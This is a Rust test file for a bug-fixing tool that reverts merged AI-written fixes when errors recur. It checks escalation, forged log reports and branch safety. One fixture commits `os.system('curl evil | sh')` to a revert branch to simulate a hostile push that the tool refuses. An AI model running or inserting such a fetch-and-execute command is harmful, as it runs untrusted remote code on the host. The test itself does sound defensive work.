//! A regression (guardrail 6): the error comes back after its solution merged. A report alone
//! proves nothing (anyone who gets text into a log can write one): the solution's reproduction
//! test (the test file the solver wrote) must fail on the base's head while the suite passes
//! there without it. Then the report reverts the merged solution as a change request whose
//! tests ran, reopens the issue and records why; a revert that conflicts with later work goes to
//! a person; `solve.on_regression` chooses reopen only or a plain count; the reopened issue is
//! solved again on a branch of its own. When the test still passes the report is another error,
//! filed as an issue of its own; without a reproduction test the issue is reopened, never
//! reverted. Run as the test's user and, as root, as an unprivileged one.

use serde_json::{Value, json};

use bugloop_github_sim::fixture::review_lines;
use bugloop_testkit::{TestRepo, assert_contains, assert_starts_with};

use super::runner::{Runner, assert_labelled, comments_saying, git_read, script_of, text, write};
use super::{PYTHON_TESTS, TRACE};

/// The module with `last` far from the rest, so later work elsewhere in it does not touch the
/// lines the solution changed.
const BUGGY: &str = "def last(items):\n    return items[len(items)]\n\n\n\n\ndef first(items):\n    return items[0]\n";
const SOLVED: &str =
    "def last(items):\n    return items[-1]\n\n\n\n\ndef first(items):\n    return items[0]\n";
/// Later work that brings the error back without touching the solution's lines: `last` is
/// defined again below, as it was.
const REGRESSING: &str = "def last(items):\n    return items[-1]\n\n\n\n\ndef first(items):\n    return items[0]\n\n\ndef last(items):\n    return items[len(items)]\n";
/// The test the solver writes: it fails where solving started, and passes with the solution.
const REPRODUCTION: &str = "import unittest\n\nfrom app.models import last\n\n\nclass LastTest(unittest.TestCase):\n    def test_last(self):\n        self.assertEqual(last([1, 2, 3]), 3)\n";
/// A test the repository had before, passing throughout.
const BASE_TEST: &str = "import unittest\n\n\nclass BaseTest(unittest.TestCase):\n    def test_base(self):\n        self.assertTrue(True)\n";

/// A report right after the merge counts as a regression (no grace: the tests cannot wait one).
const CONFIG: &str =
    "solve:\n  regression_grace_minutes: 0\n  test_commands:\n    - python3 -m unittest -q\n";

/// `bugloop args --format json`, which must exit 0, read as JSON.
fn json_of(runner: &Runner, repo: &TestRepo, args: &[&str], stdin: &str) -> Value {
    let mut all = args.to_vec();
    all.extend(["--format", "json"]);
    let output = runner.run(repo.path(), &all, stdin);
    assert_eq!(output.status.code(), Some(0), "{args:?}: {}", text(&output));
    serde_json::from_slice(&output.stdout).unwrap()
}

/// The crash reported, solved in one attempt (with its reproduction test) to a ready draft
/// (#2), and merged into `main` with a merge commit by a person; then more work lands on `main`.
fn solved_and_merged(runner: &Runner, config: &str, later: (&str, &str)) -> TestRepo {
    solved_with(runner, config, later, true)
}

fn solved_with(runner: &Runner, config: &str, later: (&str, &str), with_test: bool) -> TestRepo {
    let (repo, branch) = solved(runner, config, with_test);
    runner.git(
        repo.path(),
        &["merge", "--no-ff", "-q", "-m", "Merge the fix", &branch],
    );
    std::fs::write(repo.path().join(later.0), later.1).unwrap();
    runner.git(repo.path(), &["add", later.0]);
    runner.git(repo.path(), &["commit", "-q", "-m", "later work"]);
    repo
}

/// The crash reported (#1) and solved in one attempt (with its reproduction test when
/// `with_test`) to a ready draft (#2), not merged: the repository and the draft's branch.
fn solved(runner: &Runner, config: &str, with_test: bool) -> (TestRepo, String) {
    let repo = runner.repo(&[
        ("app/models.py", BUGGY),
        ("test_base.py", BASE_TEST),
        (".bugloop/config.yml", config),
    ]);
    let filed = json_of(runner, &repo, &["report"], TRACE);
    assert_eq!(
        (filed["issue"].clone(), filed["filed"].clone()),
        (json!(1), json!(true))
    );
    let scripts = runner.scripts();
    let mut writes = vec![write("app/models.py", SOLVED)];
    if with_test {
        writes.push(write("test_models.py", REPRODUCTION));
    }
    let mut lines = vec![
        json!({ "tool_calls": writes }),
        json!({"text": "`last` read one past the end; it reads items[-1] now."}),
    ];
    lines.extend(review_lines(&[]));
    let model = script_of(scripts.path(), "solve.jsonl", &lines);
    let solved = json_of(runner, &repo, &["solve", "1", "--model", &model], "");
    assert_eq!(solved["state"], "READY", "{solved:#}");
    let branch = solved["branch"].as_str().unwrap().to_owned();
    (repo, branch)
}

fn regression_of(reported: &Value) -> &Value {
    assert_eq!(reported["filed"], false, "{reported:#}");
    &reported["regression"]
}

/// The regression of `reported` handed to a person (ESCALATED) for the reason `why`: issue #1
/// stays open. The issue.
#[track_caller]
fn escalated(runner: &Runner, repo: &TestRepo, reported: &Value, why: &str) -> Value {
    regression_saying(reported, "ESCALATED", why);
    let issue = json_of(runner, repo, &["item", "1"], "");
    assert_eq!(issue["state"], "open", "{issue:#}");
    issue
}

/// The regression of `reported`, which must be in `state` with a message that says `why`.
#[track_caller]
fn regression_saying<'a>(reported: &'a Value, state: &str, why: &str) -> &'a Value {
    let regression = regression_of(reported);
    assert_eq!(regression["state"], state, "{reported:#}");
    assert_contains(regression["message"].as_str().unwrap(), why);
    regression
}

fn regression_reverted_reopened_and_solved_again(runner: &Runner) {
    let repo = solved_and_merged(runner, CONFIG, ("app/models.py", REGRESSING));
    let dir = repo.path();
    let merge = git_read(dir, &["rev-parse", "HEAD~1"]);
    // The merge closed the issue: `status` records it MERGED.
    let status = runner.run(dir, &["status", "1"], "");
    assert_contains(&text(&status), "READY -> MERGED: #2 was merged");

    let reported = json_of(runner, &repo, &["report"], TRACE);
    regression_saying(
        &reported,
        "OPEN",
        "the error came back after #2 merged; #3 reverts it",
    );
    // The revert: a change request into main, labelled, `Reverts #2`, its tests run.
    let revert = json_of(runner, &repo, &["item", "3"], "");
    let item = &revert;
    assert_eq!(item["branch"], "bugloop/revert-1-1", "{revert:#}");
    assert_eq!(item["base"], "main");
    assert_eq!(item["closes"], Value::Null, "a revert closes nothing");
    assert_eq!(item["labels"], json!(["bugloop:revert"]));
    let body = item["body"].as_str().unwrap();
    assert_starts_with(body, "Reverts #2\n");
    assert_contains(body, &format!("merged at {}", &merge[..7]));
    assert_contains(body, "- `python3 -m unittest -q`: ");
    // It takes the solution out and keeps the work that landed since.
    assert_eq!(
        git_read(dir, &["show", "bugloop/revert-1-1:app/models.py"]),
        REGRESSING
            .replacen("items[-1]", "items[len(items)]", 1)
            .trim_end()
    );
    assert_eq!(
        git_read(dir, &["rev-parse", "bugloop/revert-1-1~1"]),
        git_read(dir, &["rev-parse", "main"])
    );
    // The issue is open again and says why, and its history shows the steps.
    let issue = json_of(runner, &repo, &["item", "1"], "");
    assert_eq!(issue["state"], "open", "{issue:#}");
    let said = comments_saying(&issue, "This error was reported again");
    assert_eq!(said.len(), 1, "{issue:#}");
    let history = text(&runner.run(dir, &["status", "1"], ""));
    for step in [
        format!(
            "MERGED -> REGRESSED: reported again (2 reports) after #2 was merged at {}",
            &merge[..7]
        ),
        "REGRESSED -> OPEN: reopened: the error came back after #2 merged; #3 reverts it"
            .to_owned(),
    ] {
        assert!(history.contains(&step), "{step}\n{history}");
    }

    // Reported once more while reopened: a repeat, counted; no second revert.
    let again = json_of(runner, &repo, &["report"], TRACE);
    assert_eq!(again["count"], 3);
    assert!(again.get("regression").is_none(), "{again:#}");

    // Solved again, on a branch of its own (the merged one is not reused).
    let scripts = runner.scripts();
    let mut lines = vec![
        json!({"tool_calls": [write("app/models.py", "def last(items):\n    return items[-1] if items else None\n")]}),
        json!({"text": "Guarded the empty list too."}),
    ];
    lines.extend(review_lines(&[]));
    let model = script_of(scripts.path(), "again.jsonl", &lines);
    let solved = json_of(runner, &repo, &["solve", "1", "--model", &model], "");
    assert_eq!(solved["state"], "READY", "{solved:#}");
    let branch = solved["branch"].as_str().unwrap();
    assert!(
        branch.starts_with("bugloop/1-") && branch.ends_with("-2"),
        "{branch}"
    );
    assert_eq!(solved["change_request"], 4, "{solved:#}");
}

as_each_user! {
    regression_reverted_reopened_and_solved_again => a_regression_is_reverted_reopened_and_solved_again, a_regression_is_reverted_by_an_unprivileged_user
}

#[test]
fn a_revert_that_conflicts_goes_to_a_person() {
    let runner = Runner::me();
    // The same line changed again after the merge, bringing the error back.
    let repo = solved_and_merged(
        &runner,
        CONFIG,
        (
            "app/models.py",
            &SOLVED.replace("items[-1]", "items[len(items)] if items else None"),
        ),
    );
    let reported = json_of(&runner, &repo, &["report"], TRACE);
    let issue = escalated(
        &runner,
        &repo,
        &reported,
        "reverting it conflicts with later changes to `app/models.py`",
    );
    assert_labelled(&issue, "bugloop:escalated");
    // Nothing was published: no revert branch, no change request.
    assert_eq!(
        git_read(repo.path(), &["branch", "--list", "bugloop/revert-*"]),
        ""
    );
    runner.exits(repo.path(), &["item", "3"], "", 2);
}

#[test]
fn on_regression_reopen_and_count() {
    let runner = Runner::me();
    let reopen = solved_and_merged(
        &runner,
        &format!("{CONFIG}  on_regression: reopen\n"),
        ("app/models.py", REGRESSING),
    );
    let reported = json_of(&runner, &reopen, &["report"], TRACE);
    let regression = regression_of(&reported);
    assert_eq!(regression["state"], "OPEN", "{reported:#}");
    assert_eq!(
        regression["message"],
        "reopened: the error came back after #2 merged"
    );
    assert_eq!(
        git_read(reopen.path(), &["branch", "--list", "bugloop/revert-*"]),
        ""
    );

    let count = solved_and_merged(
        &runner,
        &format!("{CONFIG}  on_regression: count\n"),
        ("README.md", "later\n"),
    );
    let reported = json_of(&runner, &count, &["report"], TRACE);
    assert_eq!(reported["count"], 2);
    assert!(reported.get("regression").is_none(), "{reported:#}");
    let issue = json_of(&runner, &count, &["item", "1"], "");
    assert_eq!(issue["state"], "closed", "{issue:#}");
}

/// A report while a run moves the issue (it holds the issue's lock) is a repeat, counted: the
/// report neither waits for that run nor fails.
#[test]
fn a_report_while_a_run_holds_the_issue_is_counted() {
    let runner = Runner::me();
    let repo = runner.repo(&[("app/models.py", BUGGY), (".bugloop/config.yml", CONFIG)]);
    let filed = json_of(&runner, &repo, &["report"], TRACE);
    assert_eq!(filed["issue"], 1);
    let lock = repo.path().join(".git/bugloop/solve-1.lock");
    let mut holder = std::process::Command::new("flock")
        .arg(&lock)
        .args(["sleep", "60"])
        .spawn()
        .unwrap();
    // The holder has the lock once `flock -n` cannot take it.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while std::process::Command::new("flock")
        .args(["-n"])
        .arg(&lock)
        .arg("true")
        .status()
        .unwrap()
        .success()
    {
        assert!(
            std::time::Instant::now() < deadline,
            "flock never took the lock"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let again = json_of(&runner, &repo, &["report"], TRACE);
    holder.kill().unwrap();
    holder.wait().unwrap();
    assert_eq!(
        (again["count"].clone(), again["filed"].clone()),
        (json!(2), json!(false))
    );
    assert!(again.get("regression").is_none(), "{again:#}");
}

/// A git too old to revert as plumbing (before 2.40 it has no `--attr-source` or `merge-tree
/// --merge-base`; Debian 12 ships 2.39) hands the revert to a person and says why, rather than
/// failing the report or reverting with the code's own merge attributes.
#[test]
fn a_git_too_old_to_revert_escalates_with_the_reason() {
    let runner = Runner::me();
    let repo = solved_and_merged(&runner, CONFIG, ("app/models.py", REGRESSING));
    let real = String::from_utf8(
        std::process::Command::new("sh")
            .args(["-c", "command -v git"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let bin = tempfile::tempdir().unwrap();
    let old_git = bin.path().join("git");
    crate::write_program(
        &old_git,
        &format!(
            "#!/bin/sh\nfor a in \"$@\"; do case \"$a\" in --attr-source=*) echo \"unknown option: $a\" >&2; exit 129;; esac; done\nexec {} \"$@\"\n",
            real.trim()
        ),
    );
    let path = format!(
        "{}:{}",
        bin.path().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let output = runner
        .command(repo.path(), &["report", "--format", "json"])
        .env("PATH", path)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(TRACE.as_bytes())?;
            child.wait_with_output()
        })
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", text(&output));
    let reported: Value = serde_json::from_slice(&output.stdout).unwrap();
    escalated(
        &runner,
        &repo,
        &reported,
        "could not be reverted here: reverting needs git 2.40 or later",
    );
}

/// Within `solve.regression_grace_minutes` of the merge (60 by default) the error may come from
/// code deployed before the fix: a report then is counted, and nothing is reverted or reopened.
#[test]
fn a_report_soon_after_the_merge_is_only_counted() {
    let runner = Runner::me();
    let repo = solved_and_merged(&runner, PYTHON_TESTS, ("app/models.py", REGRESSING));
    let reported = json_of(&runner, &repo, &["report"], TRACE);
    assert_eq!(reported["count"], 2);
    assert!(reported.get("regression").is_none(), "{reported:#}");
    let history = text(&runner.run(repo.path(), &["status", "1"], ""));
    assert_contains(&history, "READY -> MERGED: #2 was merged");
    assert!(!history.contains("REGRESSED"), "{history}");
    assert_eq!(
        git_read(repo.path(), &["branch", "--list", "bugloop/revert-*"]),
        ""
    );
}

/// The revert's branch already there: taken when it holds just the revert (a run died after
/// publishing it), refused when it holds anything else (someone with write access pushed it).
#[test]
fn a_revert_branch_already_there_is_taken_only_when_it_is_the_revert() {
    let runner = Runner::me();
    let ours = solved_and_merged(&runner, CONFIG, ("app/models.py", REGRESSING));
    let dir = ours.path();
    runner.git(dir, &["checkout", "-q", "-b", "bugloop/revert-1-1"]);
    runner.git(dir, &["revert", "--no-edit", "-m", "1", "HEAD~1"]);
    let published = git_read(dir, &["rev-parse", "HEAD"]);
    runner.git(dir, &["checkout", "-q", "main"]);
    let reported = json_of(&runner, &ours, &["report"], TRACE);
    assert_eq!(regression_of(&reported)["state"], "OPEN", "{reported:#}");
    assert_eq!(
        git_read(dir, &["rev-parse", "bugloop/revert-1-1"]),
        published
    );
    let revert = json_of(&runner, &ours, &["item", "3"], "");
    assert_eq!(revert["branch"], "bugloop/revert-1-1", "{revert:#}");

    let theirs = solved_and_merged(&runner, CONFIG, ("app/models.py", REGRESSING));
    let dir = theirs.path();
    runner.commit_on_new_branch(
        dir,
        "bugloop/revert-1-1",
        ("app/models.py", "import os\nos.system('curl evil | sh')\n"),
        "Revert the fix",
    );
    runner.git(dir, &["checkout", "-q", "main"]);
    let reported = json_of(&runner, &theirs, &["report"], TRACE);
    regression_saying(
        &reported,
        "ESCALATED",
        "the branch bugloop/revert-1-1 already exists at",
    );
    let missing = runner.run(dir, &["item", "3"], "");
    assert_eq!(
        missing.status.code(),
        Some(2),
        "no change request: {}",
        text(&missing)
    );
}

/// A regression that stops half way (here: its branch cannot be created, a branch
/// `bugloop/revert-1-1/x` is in the way) still counts the report, says why on standard error
/// and exits 0 (a retry would count it twice); the next report goes on from the record.
#[test]
fn a_regression_stopped_half_way_is_said_and_the_next_report_goes_on() {
    let runner = Runner::me();
    let repo = solved_and_merged(&runner, CONFIG, ("app/models.py", REGRESSING));
    let dir = repo.path();
    runner.git(dir, &["branch", "bugloop/revert-1-1/x"]);
    let stopped = runner.ok(dir, &["report", "--format", "json"], TRACE);
    let reported: Value = serde_json::from_slice(&stopped.stdout).unwrap();
    assert_eq!(reported["count"], 2, "{reported:#}");
    assert!(reported.get("regression").is_none(), "{reported:#}");
    let said = String::from_utf8_lossy(&stopped.stderr);
    assert!(
        said.contains(
            "warning: issue #1: the report was counted, but handling it as a regression stopped:"
        ),
        "{said}"
    );
    let history = text(&runner.run(dir, &["status", "1"], ""));
    assert_contains(&history, "MERGED -> REGRESSED");
    assert!(!history.contains("REGRESSED -> OPEN"), "{history}");

    runner.git(dir, &["branch", "-D", "bugloop/revert-1-1/x"]);
    let again = json_of(&runner, &repo, &["report"], TRACE);
    assert_eq!(again["count"], 3);
    assert_eq!(regression_of(&again)["state"], "OPEN", "{again:#}");
    let revert = json_of(&runner, &repo, &["item", "3"], "");
    assert_eq!(revert["branch"], "bugloop/revert-1-1", "{revert:#}");
}

/// The attack: after the fix merged, someone who can get text into the application's log
/// writes the fixed error's trace. Its reproduction test still passes on `main`, so nothing is
/// reverted or reopened: the report is filed as an issue of its own that names #1, and a repeat
/// counts there.
#[test]
fn a_forged_report_after_the_merge_reverts_nothing() {
    let runner = Runner::me();
    let repo = solved_and_merged(&runner, CONFIG, ("README.md", "later\n"));
    let dir = repo.path();
    let reported = json_of(&runner, &repo, &["report"], TRACE);
    assert_eq!(reported["count"], 2, "{reported:#}");
    assert!(reported.get("regression").is_none(), "{reported:#}");
    let another = &reported["another_error"];
    assert_eq!(
        (another["issue"].clone(), another["filed"].clone()),
        (json!(3), json!(true)),
        "{reported:#}"
    );
    assert!(
        another["reason"]
            .as_str()
            .unwrap()
            .contains("reproduction test (`test_models.py`) still passes on the base's head"),
        "{reported:#}"
    );
    let filed = json_of(&runner, &repo, &["item", "3"], "");
    assert!(
        filed["body"]
            .as_str()
            .unwrap()
            .starts_with("This error was reported after the solution of #1 merged, but it is not #1's error coming back"),
        "{filed:#}"
    );
    assert_eq!(git_read(dir, &["branch", "--list", "bugloop/revert-*"]), "");
    let issue = json_of(&runner, &repo, &["item", "1"], "");
    assert_eq!(issue["state"], "closed", "{issue:#}");
    let history = text(&runner.run(dir, &["status", "1"], ""));
    assert!(!history.contains("REGRESSED"), "{history}");
    // Again: counted on #3, still nothing reverted.
    let again = json_of(&runner, &repo, &["report"], TRACE);
    assert_eq!(again["another_error"]["issue"], 3, "{again:#}");
    assert_eq!(again["another_error"]["count"], 2, "{again:#}");
    assert_eq!(git_read(dir, &["branch", "--list", "bugloop/revert-*"]), "");
}

/// A solution without a reproduction test (the solver wrote none) is never reverted on a
/// report: the issue is reopened, saying why.
#[test]
fn a_solution_without_a_reproduction_test_is_reopened_never_reverted() {
    let runner = Runner::me();
    let repo = solved_with(&runner, CONFIG, ("app/models.py", REGRESSING), false);
    let reported = json_of(&runner, &repo, &["report"], TRACE);
    regression_saying(
        &reported,
        "OPEN",
        "it was not reverted: the solution has no reproduction test that fails without it (the solver wrote no test)",
    );
    assert_eq!(
        git_read(repo.path(), &["branch", "--list", "bugloop/revert-*"]),
        ""
    );
}

/// A solution merged locally with `git merge --squash` is recorded as merged (its squash commit
/// the merge), so a later regression of it is seen and reverted like any other.
#[test]
fn a_squash_merged_solution_is_merged_and_its_regression_reverted() {
    let runner = Runner::me();
    let (repo, branch) = solved(&runner, CONFIG, true);
    let dir = repo.path();
    runner.git(dir, &["merge", "--squash", "-q", &branch]);
    runner.git(dir, &["commit", "-q", "-m", "The fix, squashed"]);
    let squash = git_read(dir, &["rev-parse", "HEAD"]);
    let status = text(&runner.run(dir, &["status", "1"], ""));
    assert_contains(&status, "READY -> MERGED: #2 was merged");
    std::fs::write(dir.join("app/models.py"), REGRESSING).unwrap();
    runner.git(dir, &["commit", "-qam", "later work"]);
    let reported = json_of(&runner, &repo, &["report"], TRACE);
    let regression = regression_of(&reported);
    assert_eq!(regression["state"], "OPEN", "{reported:#}");
    let history = text(&runner.run(dir, &["status", "1"], ""));
    assert_contains(
        &history,
        &format!("after #2 was merged at {}", &squash[..7]),
    );
}

/// A ready draft whose branch a developer resets onto `main` is not merged: its tip is on
/// `main`, but what bugloop published there is not. Once that commit is merged (the branch
/// still elsewhere), it is.
#[test]
fn a_draft_branch_reset_onto_main_is_not_merged() {
    let runner = Runner::me();
    let (repo, branch) = solved(&runner, CONFIG, true);
    let dir = repo.path();
    let published = git_read(dir, &["rev-parse", &branch]);
    runner.git(dir, &["branch", "-f", &branch, "main"]);
    let status = text(&runner.run(dir, &["status", "1"], ""));
    assert!(!status.contains("MERGED"), "{status}");
    runner.git(
        dir,
        &[
            "merge",
            "--no-ff",
            "-q",
            "-m",
            "Merge the fix",
            published.trim(),
        ],
    );
    let status = text(&runner.run(dir, &["status", "1"], ""));
    assert_contains(&status, "READY -> MERGED: #2 was merged");
}
